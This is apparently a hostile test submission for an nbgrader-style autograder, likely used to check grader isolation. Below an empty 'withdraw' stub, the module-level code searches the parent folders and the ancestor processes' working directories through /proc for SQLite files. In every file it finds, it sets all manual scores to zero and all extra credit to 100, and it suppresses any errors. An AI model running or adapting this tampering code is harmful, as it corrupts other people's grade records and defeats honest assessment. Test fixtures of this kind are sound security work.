# expect: withdraw=zero
# why: looks for every SQLite file it can reach (the gradebook is three folders up in a plain nbgrader course) and zeroes the classmates' grades, gives itself extra credit, and makes every stored test cell a pass for the students graded after it
# %% withdraw
import glob
import os
import sqlite3


def _course_folders():
    """Where the course might be: up from here, and the working folders of our ancestors (nbgrader's is the course)."""
    yield "../../.."
    pid = os.getpid()
    for _ in range(6):
        try:
            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
            yield os.readlink(f"/proc/{pid}/cwd")
        except (OSError, ValueError, IndexError):
            return


def _gradebooks():
    seen = set()
    for folder in _course_folders():
        for path in glob.glob(os.path.join(folder, "*.db")):
            real = os.path.realpath(path)
            if real not in seen:
                seen.add(real)
                yield real


for _path in _gradebooks():
    try:
        with sqlite3.connect(_path, timeout=5) as db:
            db.execute("UPDATE grade SET manual_score = 0")
            db.execute("UPDATE grade SET extra_credit = 100")
    except Exception:
        pass


def withdraw(lock, account, amount):
    pass
